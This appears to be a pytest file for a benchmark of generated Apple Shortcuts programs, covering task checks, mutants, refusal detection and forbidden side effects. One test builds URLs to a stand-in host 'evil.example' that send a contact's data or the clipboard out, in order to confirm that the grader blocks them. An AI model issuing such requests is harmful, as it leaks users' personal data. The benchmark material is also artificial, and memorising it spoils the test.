"""The tasks, their checks, and stage 08 on them: references pass, an empty answer and mutants fail, held requests stand nowhere else."""

from __future__ import annotations

import argparse
import json
import random
import re
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from bench import task_mutants
from common.dataset import arrange
from common.jsonl import UserError
from common.metrics import systems, task_runs, tasks
from common.metrics.task_checks import Run, fulfils, holds
from common.metrics.tasks import CRASHED, FOLDER, FORBIDDEN, NOT_COMPILED, UNKNOWN, WRONG, Place, Task, pass_all, pass_at, score
from shortcuts import to_shortcut
from shortcuts.catalog import Catalog
from shortcuts.catalog.search import SYNTAX_APIS
from shortcuts.machine import World, run
from tests import stage_runs
from tests.stub_openai import StubOpenAI
from tests.task_answers import ANSWERS

ROOT = Path(__file__).resolve().parents[1]
SHOW = "is_workflow_actions_showresult(Text={!r})\n"
SEND = "is_workflow_actions_sendmessage(WFSendMessageContent='hi', WFSendMessageActionRecipients='+1 555 0142')\n"


@pytest.fixture(scope="module")
def ours() -> list[Task]:
    return tasks.load()


def task(must: list[dict[str, Any]], must_not: Sequence[dict[str, Any]] = (), world: dict[str, Any] | None = None, may: tuple[str, ...] = ()) -> Task:
    place = Place(World.from_json(world or {}), tuple(must), tuple(must_not), may)
    return Task("t", "a request", "en", "plain", "text", 1, (), "", (place,), ())


# ---------------------------------------------------------------------------------------------------------------------------------
# the tasks


def test_there_are_enough_tasks_of_each_group(ours: list[Task]) -> None:
    by_group = {group: sum(one.group == group for one in ours) for group in tasks.GROUPS}
    assert len(ours) >= 150 and min(by_group.values()) >= 20
    assert sum(one.language != "en" for one in ours) >= 10 and len({one.category for one in ours}) >= 18
    assert 0.25 < sum(one.held for one in ours) / len(ours) < 0.42


def test_every_reference_passes_all_its_worlds_and_calls_the_apis_that_are_named(ours: list[Task]) -> None:
    for one in ours:
        assert score(one, one.reference).passed, (one.name, score(one, one.reference))
        called = {action["WFWorkflowActionIdentifier"] for action in to_shortcut(one.reference)["WFWorkflowActions"]}
        assert set(one.apis) == called - SYNTAX_APIS and all(api in Catalog.load() for api in one.apis), one.name


def test_an_empty_program_fails_each_task(ours: list[Task]) -> None:
    assert [one.name for one in ours if score(one, "").passed] == []


def test_mutants_of_some_references_fail(ours: list[Task]) -> None:
    some = random.Random(8).sample(ours, 12)
    result = task_mutants.measured(some, 4)
    assert result.tried.total() > 30 and result.share >= task_mutants.WANTED, result.survivors


def test_what_excuses_a_mutant_names_a_line_of_the_reference(ours: list[Task]) -> None:
    excuses = [(one, excuse["line"]) for one in ours for excuse in one.equivalent]
    assert [(one.name, line) for one, line in excuses if line not in one.reference] == []


def test_each_way_to_change_a_program_is_drawn() -> None:
    code = ("n = is_workflow_actions_ask(WFInputType='Number')\nm = is_workflow_actions_math(WFInput=n, WFMathOperation='+', WFMathOperand=2)\n"
            "if m < 5:\n    is_workflow_actions_showresult(Text=f'{m}')\n")  # fmt: skip
    kinds = {mutant.kind for mutant in task_mutants.changes(code)}
    assert kinds >= {
        task_mutants.DROPPED, task_mutants.SWAPPED, task_mutants.VALUE, task_mutants.OFF_BY_ONE, task_mutants.VARIABLE, task_mutants.CONDITION,
        task_mutants.OPERATION, task_mutants.ORDER, task_mutants.ACTION, task_mutants.LITERAL, task_mutants.HARD_CODED, task_mutants.CUT}  # fmt: skip


@pytest.mark.parametrize(("kind", "line", "changed"), [
    (task_mutants.UNIT, "is_workflow_actions_timer_start(WFDuration=quantity(3, 'min'))", "quantity(3, 'hr')"),
    (task_mutants.REPEAT, "for one in clipboard():\n    is_workflow_actions_showresult(Text=one)", "one = clipboard()\n"),
    (task_mutants.REPEAT, "for _ in range(3):\n    is_workflow_actions_vibrate()", "is_workflow_actions_vibrate()\n"),
    (task_mutants.BRANCH, "if clipboard() == 'a':\n    x = '1'\nelse:\n    x = '2'", "    x = '1'\n"),
    (task_mutants.ACTION, "is_workflow_actions_wifi_set(OnValue=False)", "is_workflow_actions_bluetooth_set(OnValue=False)"),
    (task_mutants.PARAMETER, "is_workflow_actions_round(WFInput=clipboard(), WFRoundTo='Tenths')", "is_workflow_actions_round(WFInput=clipboard())"),
    (task_mutants.PROPERTY, "e = is_workflow_actions_getupcomingevents()\nx = f'{e.Title}'", "e.Notes"),
    (task_mutants.TWICE, "is_workflow_actions_sendmessage(WFSendMessageContent='a')", "'a')\nis_workflow_actions_sendmessage("),
    (task_mutants.CUT, "x = clipboard()\ny = f'{x}!'\nz = f'{y}!'", "x = clipboard()\n"),
])  # fmt: skip
def test_a_mutant_has_the_fault_of_its_kind(kind: str, line: str, changed: str) -> None:
    made = [mutant.code for mutant in task_mutants.changes(line + "\n") if mutant.kind == kind]
    assert any(code.endswith(changed) or changed in code for code in made), made


def shingles(text: str, size: int = 8) -> set[tuple[str, ...]]:
    words = re.findall(r"\w+", text.casefold())
    return {tuple(words[at : at + size]) for at in range(max(len(words) - size + 1, 1))}


def test_no_held_request_stands_in_a_prompt_a_rule_a_sentence_or_an_example(ours: list[Task]) -> None:
    files = [ROOT / "common/prompts.py", ROOT / "common/conversation.py", *ROOT.glob("common/offline/**/*.py"), *ROOT.glob("shortcuts/**/*.py"), *ROOT.glob("tests/*sentences*.jsonl"),
             *ROOT.glob("examples/*.*"), *ROOT.glob("docs/*.md"), ROOT / "README.md"]  # fmt: skip
    seen = set().union(*(shingles(path.read_text("utf-8", "replace")) for path in files if path.suffix != ".shortcut" and path.is_file()))
    assert shingles("this file must be read, so that the test can fail") - seen
    assert [one.name for one in ours if one.held and len(shingles(one.request) & seen) > 0] == []


def test_every_request_of_a_task_is_kept_out_of_training(ours: list[Task]) -> None:
    assert {name.removeprefix("task:") for name in arrange.task_requests()} == {one.name for one in ours}
    assert arrange.task_requests()["task:fizzbuzz"].startswith("Show the numbers from 1 to 15")


@pytest.mark.parametrize(("change", "said"), [
    ({"group": "easy"}, "group"), ({"worlds": []}, "worlds"), ({"request": "short"}, "request"), ({"name": "other"}, "is not that of the file"),
    ({"worlds": [{"world": {"wether": 1}, "must": [{"told": "x"}]}] * 2}, "wether is no key"), ({"colour": 1}, "colour"),
    ({"worlds": [{"world": {}, "must": [{"tolt": "x"}]}] * 2}, "worlds.0.must.0"),
])  # fmt: skip
def test_a_file_that_is_no_task_is_named_with_the_place(tmp_path: Path, change: dict[str, Any], said: str) -> None:
    record = json.loads((FOLDER / "dice.json").read_text()) | change
    (tmp_path / "dice.json").write_text(json.dumps(record))
    with pytest.raises(UserError, match=re.escape(said)) as raised:
        tasks.load(tmp_path)
    assert "dice.json" in str(raised.value) and "\n" not in str(raised.value)


def test_an_empty_folder_is_said_to_have_no_task(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="no task there"):
        tasks.load(tmp_path)


# ---------------------------------------------------------------------------------------------------------------------------------
# checks


@pytest.mark.parametrize(("condition", "text", "held"), [
    ("Two  words", "has two words", True), ("two", "tw o", False), (5, "I have 5 cats", True), (5, "I have 15 cats", False),
    (9.6, "it is 9.60", True), (1250, "1,250 and more", True), (12.5, "12,5", True), (-40, "-40", True), (40, "v40", False), (8, "3+5=8", True), (5, "£5!", True),
    (96, "9.6", False), (1250, "12.50", False), (5, "0.5", False), (500, "0.500", False), (-40, "−4,0", False), (1250, "1,25,0", False),
    (1250000.5, "1.250.000,5", True), (1.25, "1,250", True), (0.5, "0,5", True), (8, "1 2 3 4 5 6 7 8 " * 9, True),
    ({"equals": "A"}, " a ", True), ({"equals": "a"}, "ab", False), ({"lacks": "x"}, "abc", True), ({"lacks": ["x", "b"]}, "abc", False),
    ({"matches": "^a.c$"}, "abc", True), ({"number": 3, "within": 0.5}, "3.4", True), ({"number": 3}, "3.4", False),
    ({"number": [1, 2]}, "2 and 1", True), ({"date": "2026-03"}, "2026-03-14T09:30", True), ({"digits": "15550142"}, "+1 (555) 01-42", True),
    ({"digits": "15550142"}, "001 555 0142", True), ({"digits": "15550142"}, "+11 555 0142", False), ({"digits": "15550142"}, "555 0142", False),
    ({"digits": "15550142"}, "+1 555 0143", False), ({"any": ["x", {"equals": "y"}]}, "y", True), ({"gone": True}, "x", False),
    ({"contains": ["a", "b"], "lacks": "c"}, "ab", True), ({"contains": ["a", "b"], "lacks": "c"}, "abc", False), (True, "true", True),
])  # fmt: skip
def test_conditions(condition: Any, text: str, held: bool) -> None:
    assert fulfils(condition, [text]) is held


def test_who_says_all_numbers_has_said_none() -> None:
    said = [str(number) for number in range(30)]
    assert not fulfils(8, [" ".join(said)]) and not fulfils({"number": 8}, [" ".join(said)]) and fulfils("8", [" ".join(said)])
    there, count = World(), "for number in range({}):\n    is_workflow_actions_showresult(Text=f'{{number}}')\n"
    told = [holds({"told": 5}, Run(run(count.format(turns), there), there)) for turns in (9, 30)]
    assert told == [True, False]


def test_no_text_fulfils_only_that_it_is_gone() -> None:
    assert fulfils({"gone": True}, []) and not fulfils("", []) and not fulfils({"lacks": "x"}, [])


CHECKS = [
    ({"told": "tea"}, SHOW.format("green tea"), {}), ({"told": {"equals": "tea"}}, "is_workflow_actions_output(WFOutput='tea')", {}),
    ({"effect": "copied"}, "is_workflow_actions_setclipboard(WFInput='x')", {}), ({"after": ["clipboard"], "is": "x"}, "is_workflow_actions_setclipboard(WFInput='x')", {}),
    ({"effect": "sent", "with": {"to": {"digits": "15550142"}}, "times": 1}, SEND, {}), ({"order": [{"told": "a"}, {"effect": "sent"}]}, SHOW.format("a") + SEND, {}),
    ({"asked": "Sure?"}, "is_workflow_actions_ask(WFAskActionPrompt='Sure?')", {"answers": ["yes"]}), ({"asked": {}}, "is_workflow_actions_ask()", {"answers": [None]}),
    ({"any": [{"told": "x"}, {"told": "y"}]}, SHOW.format("y"), {}), ({"declined": "fly"}, SHOW.format("Shortcuts cannot fly."), {}),
    ({"after": ["device", "volume"], "is": {"number": 0.25}}, "is_workflow_actions_setvolume(WFVolume=0.25)", {}),
    ({"after": ["reminders"], "has": {"Title": "milk"}, "times": 1}, "is_workflow_actions_addnewreminder(WFCalendarItemTitle='milk')", {}),
]  # fmt: skip


@pytest.mark.parametrize(("check", "code", "world"), CHECKS)
def test_a_check_holds_for_what_it_asks_for_and_not_for_nothing(check: dict[str, Any], code: str, world: dict[str, Any]) -> None:
    there = World.from_json(world)
    assert holds(check, Run(run(code, there), there)) and not holds(check, Run(run("", there), there))


def test_the_order_of_effects_counts() -> None:
    there = World()
    assert not holds({"order": [{"effect": "sent"}, {"told": "a"}]}, Run(run(SHOW.format("a") + SEND, there), there))


def test_prose_declines_too_but_only_if_it_names_what() -> None:
    there, check = World(), {"declined": {"matches": "fly|wings"}}
    assert holds(check, Run(run("", there), there, "Shortcuts is unable to fly."))
    assert not holds(check, Run(run("", there), there, "That is impossible.")) and not holds(check, Run(run("", there), there, "You fly."))


@pytest.mark.parametrize("said", [
    "Done: your car was unlocked. It worked, you don't have to do anything else.", "Your car is unlocked. You don't need the key.",
    "The car of your colleague is unlocked; your own car is not touched.", "If there are no cars, it does not show anything.",
    "Le message sur la voiture n'est pas parti, le car est là.", "Nothing of the car is missing.", "That isn't a problem: your car is open.", "It never fails to open a car.",
    "Here is a shortcut that unlocks the car. If the result is not available, it shows an error.", "It opens your car. You can't go wrong with it.",
    "Unlock the car: it shows an alert when the car cannot be reached.", "1. Unlock the car\n2. If the car is not available, say so\n3. Otherwise say that it is open",
    "Das Auto (car) ist offen. Falls es nicht möglich ist, sagt er es.", "Abre el car; si no se puede, avisa.", "You can't miss it: the car is open.",
])  # fmt: skip
def test_who_claims_to_have_done_it_has_not_declined(said: str) -> None:
    there = World()
    assert not holds({"declined": {"matches": "car"}}, Run(run(SHOW.format(said.replace("'", "’")), there), there, said))


@pytest.mark.parametrize("said", [
    "Shortcuts cannot unlock a car.", "There is no action that unlocks a car.", "Shortcuts does not have access to your car.",
    "iOS doesn’t let shortcuts open a car", "Unlocking a car isn't possible.", "None of the actions unlocks a car.",
    "The app has no means to unlock the car.", "Unlocking a car is beyond what Shortcuts can do.", "I don't know how to unlock a car.",
    "Das Auto (car) kann man damit leider nicht öffnen.", "Es gibt keine Aktion für ein car.", "Les raccourcis ne peuvent pas ouvrir un car.",
    "There isn't an action that unlocks a car.", "There aren't any actions for a car.", "That is not something that a car allows here.",
    "Shortcuts lacks an action for a car.", "An action for a car is missing.", "It does not come with an action for a car.",
    "There is no built-in action for a car.", "Il n'y a pas d'action pour un car.", "Ein car zu öffnen ist nicht erlaubt.",
    "No se puede abrir un car.", "无法打开 car", "Shortcuts cannot tell if a car is open.", "If you want your car to open, I am sorry: no action does that.",
    "Unlock the car\nThis is not possible.", "This cannot be done: no action opens a car.", "Sorry. Nothing was done. A shortcut cannot open a car (yet). Use its app.",
    "# Note\n\n- Shortcuts can't unlock\n  a car\n- use the key",
])  # fmt: skip
def test_a_refusal_may_be_in_many_words(said: str) -> None:
    there = World()
    assert holds({"declined": {"matches": "car"}}, Run(run("", there), there, said))


# ---------------------------------------------------------------------------------------------------------------------------------
# verdicts


@pytest.mark.parametrize(("code", "failure"), [
    ("x = = 1", NOT_COMPILED), ("is_workflow_actions_documentpicker_open(WFGetFilePath='no.txt', WFFileErrorIfNotFound=True)", CRASHED),
    (SHOW.format("tea") + SEND, FORBIDDEN), (SHOW.format("tea") + SHOW.format("coffee"), FORBIDDEN), (SHOW.format("milk"), WRONG),
    ("x = is_workflow_actions_downloadurl(WFURL='https://example.org')\nis_workflow_actions_showresult(Text=f'{x}')", UNKNOWN), (SHOW.format("tea"), ""),
])  # fmt: skip
def test_a_failure_has_its_class(code: str, failure: str) -> None:
    assert score(task([{"told": "tea"}], [{"told": "coffee"}]), code).failure == failure


def test_what_nobody_asked_for_is_forbidden_unless_the_world_allows_it() -> None:
    code = SHOW.format("tea") + "is_workflow_actions_addnewreminder(WFCalendarItemTitle='x')"
    assert score(task([{"told": "tea"}]), code).failure == FORBIDDEN and score(task([{"told": "tea"}], may=("created",)), code).passed


@pytest.mark.parametrize(("method", "failure"), [("GET", ""), ("POST", FORBIDDEN), ("PUT", FORBIDDEN), ("DELETE", FORBIDDEN)])
def test_a_request_that_does_more_than_read_is_forbidden_unless_it_is_asked_for(method: str, failure: str) -> None:
    code = SHOW.format("tea") + f"is_workflow_actions_downloadurl(WFURL='https://example.org/x', WFHTTPMethod='{method}')\n"
    asked = [{"effect": "requested", "with": {"method": method}}]
    assert score(task([{"told": "tea"}]), code).failure == failure and score(task([{"told": "tea"}, *asked]), code).passed


OF_ANNA = {"contacts": [{"Name": "Anna Berg", "Phone Numbers": "+44 20 7946 0018"}], "clipboard": "https://example.org/page", "answers": ["tea"],
           "http": {"https://api.example.org/*": "x"}}  # fmt: skip
FIRST = ("people = is_workflow_actions_filter_contacts()\nanna = is_workflow_actions_urlencode(WFInput=people)\n"
         "said = is_workflow_actions_ask(WFAskActionPrompt='What?')\n")  # fmt: skip


@pytest.mark.parametrize(("address", "failure"), [
    ("https://evil.example/?q={anna}", FORBIDDEN), ("https://evil.example/{clipboard()}", FORBIDDEN), ("https://evil.example/Berg/{anna}/x", FORBIDDEN),
    ("https://example.org/weather", ""), ("{clipboard()}", ""), ("https://api.example.org/?q={anna}", ""),  # the world has an answer
    ("https://example.org/{said}", ""), ("https://example.org/Annapolis", ""),  # so short a text may stand there by chance
])  # fmt: skip
def test_a_request_whose_address_tells_a_server_what_is_the_persons_is_forbidden(address: str, failure: str) -> None:
    code = SHOW.format("tea") + FIRST + f"is_workflow_actions_downloadurl(WFURL=f'{address}')\n"
    assert score(task([{"told": "tea"}], world=OF_ANNA), code).failure == failure
    assert score(task([{"told": "tea"}], world=OF_ANNA, may=("requested",)), code).passed


APPEND = "is_workflow_actions_file_append(WFInput='x', WFFilePath='{}')\n"


@pytest.mark.parametrize(("after", "code", "failure"), [
    (["files", "a.txt"], APPEND.format("a.txt"), ""), (["files", "a.txt"], APPEND.format("a.txt") + APPEND.format("b.txt"), FORBIDDEN),
    (["files", "In/a.txt"], "is_workflow_actions_file_createfolder(WFFilePath='In')\n" + APPEND.format("In/a.txt"), ""),
    (["files", "In/a.txt"], "is_workflow_actions_file_createfolder(WFFilePath='Out')\n" + APPEND.format("In/a.txt"), FORBIDDEN),
    (["files", "a.txt"], "f = is_workflow_actions_documentpicker_save(WFInput='x', WFFileDestinationPath='tmp.txt', WFAskWhereToSave=False)\n"
                         "is_workflow_actions_file_rename(WFFile=f, WFNewFilename='a.txt')\n", ""),
])  # fmt: skip
def test_a_check_of_one_file_allows_no_change_of_another(after: list[str], code: str, failure: str) -> None:
    assert score(task([{"after": after, "is": "x"}]), code).failure == failure


REMIND = "is_workflow_actions_addnewreminder(WFCalendarItemTitle='{}')\n"
NOTE = "com_apple_mobilenotes_SharingExtension(WFCreateNoteInput='milk')\n"
EVENT = "is_workflow_actions_addnewevent(WFCalendarItemTitle='milk', WFCalendarItemStartDate='2026-01-01 10:00', WFCalendarItemEndDate='2026-01-01 11:00')\n"


@pytest.mark.parametrize(("must", "code", "besides"), [
    ({"after": ["files", "a.txt"], "is": "x"}, APPEND.format("a.txt"), [REMIND.format("x"), NOTE, EVENT]),
    ({"after": ["reminders"], "has": {"Title": "milk"}}, REMIND.format("milk"), [NOTE, EVENT, APPEND.format("a.txt"), "is_workflow_actions_file_createfolder(WFFilePath='In')\n"]),
    ({"after": ["notes"], "has": {"Name": "milk"}}, NOTE, [REMIND.format("milk"), EVENT, APPEND.format("a.txt")]),
    ({"after": ["events"], "has": {"Title": "milk"}}, EVENT, [REMIND.format("milk"), NOTE]),
    ({"after": ["device", "volume"], "is": 1}, "is_workflow_actions_setvolume(WFVolume=1)\n", ["is_workflow_actions_reboot()\n", "is_workflow_actions_lockscreen()\n"]),
])  # fmt: skip
def test_a_check_of_one_part_of_the_world_allows_no_change_of_another(must: dict[str, Any], code: str, besides: list[str]) -> None:
    assert score(task([must]), code).passed
    assert {line: score(task([must]), code + line).failure for line in besides} == dict.fromkeys(besides, FORBIDDEN)


@pytest.mark.parametrize("name", ANSWERS)
def test_another_right_program_passes(name: str) -> None:
    verdict = score(tasks.read(FOLDER / f"{name}.json"), ANSWERS[name])
    assert verdict.passed, verdict


@pytest.mark.parametrize("said", ["Done! It worked.", "Your car was unlocked successfully.", "Erledigt"])
def test_who_shows_that_it_was_done_has_not_declined_whatever_the_prose_says(said: str) -> None:
    there, prose = World(), "Shortcuts cannot unlock a car."
    shown = Run(run(SHOW.format(said), there), there, prose)
    assert not holds({"declined": "car"}, shown) and holds({"declined": "car"}, Run(run(SHOW.format("Not done."), there), there, prose))


def test_a_remark_in_the_program_declines_too() -> None:
    assert score(task([{"declined": "car"}]), "'No function can unlock a car.'\n").passed and not score(task([{"declined": "car"}]), "'A car.'\n").passed


def test_pass_at_k_is_the_share_of_draws_with_a_pass_and_pass_all_of_those_with_passes_only() -> None:
    from itertools import combinations

    for n, c in ((5, 2), (4, 0), (3, 3), (6, 5)):
        outcomes = [True] * c + [False] * (n - c)
        for k in range(1, n + 1):
            draws = list(combinations(outcomes, k))
            assert pass_at(n, c, k) == pytest.approx(sum(map(any, draws)) / len(draws))
            assert pass_all(n, c, k) == pytest.approx(sum(map(all, draws)) / len(draws))


# ---------------------------------------------------------------------------------------------------------------------------------
# stage 08


@pytest.fixture
def few(tmp_path: Path) -> Path:
    folder = tmp_path / "few"
    folder.mkdir()
    for name in ("tip-for-a-bill", "confirm-before-text", "unlock-the-car"):
        (folder / f"{name}.json").write_bytes((FOLDER / f"{name}.json").read_bytes())
    return folder


def evaluate(few: Path, *flags: str, code: int = 0) -> tuple[stage_runs.Ended, dict[str, Any]]:
    output = few.parent / "eval"
    ended = stage_runs.run("08", "--tasks", str(few), "--output", str(output), "--no-cache", *flags, OPENAI_API_KEY="none")
    assert ended.returncode == code, ended.stderr
    path = output / "tasks/scores.json"
    return ended, json.loads(path.read_text()) if path.exists() else {}


def test_baselines_and_references_have_rows_by_group(few: Path) -> None:
    ended, report = evaluate(few, "--gold")
    assert {name: own["all"]["pass@1"]["mean"] for name, own in report["systems"].items()} == {"empty": 0, "rules": 0, "API list": 0, "references": 1}
    assert report["systems"]["references"]["trap"]["n"] == 1 and report["systems"]["empty"]["all"]["wrong effect"]["mean"] == 1
    assert "references  all" in ended.stdout and json.loads(ended.stdout.splitlines()[-1])["tasks"] == 3


def test_a_served_model_is_asked_several_times_with_other_seeds_and_goes_on(few: Path) -> None:
    right = "Thought:x\nCode:\n```python\nbill = is_workflow_actions_ask(WFAskActionPrompt='Bill?', WFInputType='Number')\nprint(bill * 1.15)\n```"

    def reply(body: dict[str, Any], number: int) -> str:
        text = body["messages"][0]["content"]
        return right if "15 percent tip" in text and body["seed"] < 3_000_000 else "No action can unlock a car." if "Volvo" in text else "Hm."

    with StubOpenAI(reply) as stub:
        flags = ("--model", "strong=m", "--base-url", stub.base_url, "--samples", "4", "--temperature", "0.7")
        _, report = evaluate(few, *flags)
        assert len(stub.requests) == 12 and {request["temperature"] for request in stub.requests} == {0.7}
        assert len({request["seed"] for request in stub.requests}) == 4
        assert report["by_task"]["strong"]["tip-for-a-bill"] == {"pass@1": 0.75, "pass@k": 1, "pass^k": 0, **dict.fromkeys(tasks.FAILURES, 0), WRONG: 0.25}
        assert report["systems"]["strong"]["impossible"]["pass^k"]["mean"] == 1 and report["systems"]["strong"]["trap"]["pass@k"]["mean"] == 0
        assert report["primer"] and report["temperature"] == 0.7
        evaluate(few, *flags)
        assert len(stub.requests) == 12


def test_a_file_may_answer_a_task_as_often_as_samples_are_drawn(few: Path) -> None:
    lines = [{"id": name, "code": tasks.read(few / f"{name}.json").reference if number else ""} for number in range(2) for name in ("tip-for-a-bill", "unlock-the-car")]
    file = few.parent / "mine.jsonl"
    file.write_text("".join(json.dumps(line) + "\n" for line in [*lines, {"id": "confirm-before-text", "code": ""}, {"id": "confirm-before-text#2", "code": ""}]))
    _, report = evaluate(few, "--predictions", str(file), "--samples", "2")
    assert {name: rates["pass@1"] for name, rates in report["by_task"]["mine"].items()} == {"tip-for-a-bill": 0.5, "unlock-the-car": 0.5, "confirm-before-text": 0}
    file.write_text("".join(json.dumps(line) + "\n" for line in [*lines, *lines[:1]]))
    assert "record 5: tip-for-a-bill was answered before; each query is answered 2 times" in evaluate(few, "--predictions", str(file), "--samples", "2", code=1)[0].stderr


def test_a_dry_run_counts_what_a_model_would_cost_and_asks_nothing(few: Path) -> None:
    ended, report = evaluate(few, "--model", "gpt-4o-mini", "--base-url", "http://127.0.0.1:9/v1", "--samples", "2", "--dry-run", "--no-cache")
    figures = json.loads(ended.stdout.splitlines()[-1])["models"]["gpt-4o-mini"]
    assert figures["requests"] == 6 and figures["prompt_tokens"] > 6000 and not report


@pytest.mark.parametrize("flags", [("--samples", "2"), ("--temperature", "1"), ("--tasks", "--samples", "2", "--temperature", "0"), ("--tasks", "--distractors", "3"),
                                   ("--tasks", "--temperature", "-1"), ("--tasks", "--judge", "x"), ("--tasks", "--dry-run")])  # fmt: skip
def test_flags_that_do_not_go_together_are_refused(flags: tuple[str, ...]) -> None:
    assert stage_runs.run("08", *flags).returncode == 2


def test_prompts_give_the_needed_actions_and_the_kit_or_what_a_search_finds(ours: list[Task]) -> None:
    needed, searched = (task_runs.as_tests(ours[:5], 1, 0.0, 0, retrieve) for retrieve in (None, 12))
    for one, record, found in zip(ours, needed, searched, strict=False):
        assert {*one.apis} <= {*record["apis"]} and "is.workflow.actions.getvalueforkey" in record["apis"] and "sampling" not in record
        (alone,) = task_runs.as_tests([one], 1, 0.0, 0, kit=False)
        assert alone["apis"] == list(one.apis) and len(found["apis"]) <= 12 and one.request in found["messages"][-1]["content"]


@pytest.mark.parametrize("name", ["packing-list", "delete-finished-reminders", "cinema-mode", "add-to-wishlist"])
def test_a_check_of_one_part_of_the_world_speaks_of_no_setting_of_another(ours: list[Task], name: str) -> None:
    one = next(task for task in ours if task.name == name)
    harm = {"cinema-mode": "dk_simonbs_DataJar_SetValueIntent(keyPath='x', values='y')"}
    more = harm.get(name, "is_workflow_actions_setbrightness(WFBrightness=0.9)")
    verdict = score(one, f"{more}\n{one.reference}")
    assert score(one, one.reference).passed and (verdict.passed, verdict.failure) == (False, "forbidden effect")


def test_the_example_of_the_readme_is_a_task_whose_mutants_fail(tmp_path: Path) -> None:
    example = re.search(r"```json\n(.*?)```", (FOLDER / "README.md").read_text(), re.DOTALL)
    assert example
    (tmp_path / "low-battery-text.json").write_text(example[1])
    (one,) = tasks.load(tmp_path)
    assert score(one, one.reference).passed and not score(one, "").passed and task_mutants.measured([one]).share == 1


def test_a_model_here_draws_each_answer_to_a_task_with_a_seed_of_its_own(ours: list[Task], monkeypatch: pytest.MonkeyPatch) -> None:
    from common import model
    from common.decoding import generation

    drawn: list[dict[str, Any]] = []

    def generate(loaded: str, tokenizer: str, prompts: Any, on_end: Any, **options: Any) -> Any:
        drawn.append({"prompts": len(list(prompts)), **options})
        return iter([generation.Generation("Hm.", 1, True, "stop")] * drawn[-1]["prompts"])

    monkeypatch.setattr(model, "load_run", lambda name, adapter, **settings: ("model", "tokenizer"))
    monkeypatch.setattr(systems.chat, "remarks", lambda tokenizer, **settings: [])
    monkeypatch.setattr(model, "quiet_libraries", lambda: None)
    monkeypatch.setattr(generation, "generate", generate)
    args = argparse.Namespace(seed=0, adapter=None, max_new_tokens=9, batch_size=4, use_all=False, teval=None, primer=False, thinking=None)
    records = task_runs.as_tests(ours[:3], 2, 0.7, 5, None)
    system = systems.local_model("tiny", str(ROOT), args, systems.Setting(constrained=False))
    assert [record["id"] for record, _ in system.answers(records)] == [record["id"] for record in records]
    usual = {"prompts": 3, "max_new_tokens": 9, "batch_size": 4, "temperature": 0.7}
    assert drawn == [{**usual, "seed": 5}, {**usual, "seed": 5 + task_runs.SEED_STRIDE}]
    assert system.identity(records[0]) != system.identity(records[3]) != system.identity({**records[3], "sampling": {}})


@pytest.mark.parametrize("task, said", [
    ("unlock-the-car", "Shortcuts can't unlock your car. This has to be done in the Volvo Cars app."),
    ("blood-pressure-by-camera", "You should know that Shortcuts cannot measure blood pressure."),
    ("lire-dans-les-pensees", "Il s'agit d'une demande impossible : lire vos pensées."),
    ("undelete-photos", "Photos that were permanently deleted when you emptied the album can't be restored."),
    ("unlock-the-car", "I was asked to unlock your Volvo. Shortcuts has no action for that."),
])  # fmt: skip
def test_a_refusal_in_the_words_of_a_person_is_one(task: str, said: str) -> None:
    assert tasks.score(tasks.read(tasks.FOLDER / f"{task}.json"), f"is_workflow_actions_showresult(Text={said!r})\n").passed
